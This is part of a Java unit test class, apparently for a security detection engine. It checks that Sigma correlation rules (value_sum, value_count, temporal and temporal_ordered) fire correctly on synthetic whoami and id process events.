    SecurityEvent execWithPid(String id, long offsetMillis, long pid) {
        SecurityEvent event = exec(id, offsetMillis, "c1", "/usr/bin/whoami", "whoami");
        event.getProcess().setPid(pid);
        return event;
    }

    @Test
    void shouldFireValueSumOverANumericFieldOfTheMatchedEvents() throws IOException {
        start(Map.of(), WHOAMI, correlation("value_sum", List.of("whoami_run"), "60s", "field: ProcessId\ngt: 1000", ""));
        pipe(execWithPid("s1", 0, 400));
        pipe(execWithPid("s2", 10_000, 600));
        assertThat(correlationFindings()).as("400 + 600 is not more than 1000").isEmpty();
        pipe(execWithPid("s3", 20_000, 1));
        List<Finding> fired = correlationFindings();
        assertThat(fired).hasSize(1);
        assertThat(fired.get(0).getEvidence().getEventIds()).containsExactly("s1", "s2", "s3");
        assertThat(fired.get(0).getEvidence().getFields()).containsEntry("sigma.correlation.type", "value_sum")
                .containsEntry("sigma.correlation.value", "1001");
    }

    @Test
    void shouldCountDistinctCombinationsOfAListOfValueCountFields() throws IOException {
        start(Map.of(), WHOAMI, correlation("value_count", List.of("whoami_run"), "5m",
                "field:\n    - CommandLine\n    - CurrentDirectory\ngte: 3", ""));
        SecurityEvent elsewhere = exec("w2", 1_000, "c1", "/usr/bin/whoami", "whoami");
        elsewhere.getProcess().setWorkingDirectory("/tmp");
        pipe(exec("w1", 0, "c1", "/usr/bin/whoami", "whoami"));
        pipe(elsewhere);
        pipe(exec("w3", 2_000, "c1", "/usr/bin/whoami", "whoami"));
        assertThat(correlationFindings()).as("two combinations: (whoami, /) and (whoami, /tmp)").isEmpty();
        SecurityEvent noDirectory = exec("w4", 3_000, "c1", "/usr/bin/whoami", "whoami --help");
        noDirectory.getProcess().setWorkingDirectory(null);
        pipe(noDirectory);
        assertThat(correlationFindings()).as("a combination needs every field (they are linked by AND)").isEmpty();
        pipe(exec("w5", 4_000, "c1", "/usr/bin/whoami", "whoami --help"));
        assertThat(correlationFindings()).hasSize(1);
    }

    static final String MANY_WHOAMI = """
            title: Many whoami
            id: corr-inner
            name: many_whoami
            correlation:
                type: event_count
                rules: [whoami_run]
                group-by: [User, CurrentDirectory]
                timespan: 60s
                condition: {CONDITION}
            """;

    @Test
    void shouldReportAReferencedCorrelationToWhenTheReferencingOneGeneratesIt() throws IOException {
        start(Map.of(), WHOAMI, ID, MANY_WHOAMI.replace("{CONDITION}", "{gte: 2}"),
                correlation("temporal_ordered", List.of("many_whoami", "id_run"), "5m", null, "    generate: true\n"));
        whoami("g1", 0);
        whoami("g2", 1_000);
        pipe(exec("g3", 2_000, "c1", "/usr/bin/id", "id"));
        List<Finding> all = findings.readValuesToList();
        assertThat(all).extracting(f -> f.getRule().getId()).contains("corr-inner", "corr-1");
        Finding outer = all.stream().filter(f -> f.getRule().getId().equals("corr-1")).findFirst().orElseThrow();
        assertThat(outer.getEvidence().getEventIds()).as("the inner firing's last event, then id")
                .containsExactly("g2", "g3");
        assertThat(outer.getEvidence().getFields()).containsEntry("User", "root");
    }

    @Test
    void shouldFeedAReferencedCorrelationDecidedOnTheCompleteIntervalIntoTheReferencingOne() throws IOException {
        start(Map.of("grace", "10s"), WHOAMI, ID, MANY_WHOAMI.replace("{CONDITION}", "{lt: 3}"),
                correlation("temporal", List.of("many_whoami", "id_run"), "5m", null, ""));
        whoami("q1", 0);
        whoami("q2", 10_000);
        pipe(exec("q3", 30_000, "c1", "/usr/bin/id", "id"));
        assertThat(correlationFindings()).as("[0 s, 60 s] of many_whoami is still open").isEmpty();
        pipe(exec("q4", 120_000, "c1", "/usr/bin/id", "id"));
        List<Finding> fired = correlationFindings();
        assertThat(fired).as("two whoami in [0 s, 60 s] (fewer than 3), and id within 5 m").hasSize(1);
        assertThat(fired.get(0).getEvidence().getEventIds()).containsExactly("q2", "q3");
        assertThat(counter("bulwark.detect.sigma.correlation.late")).isZero();
    }
}
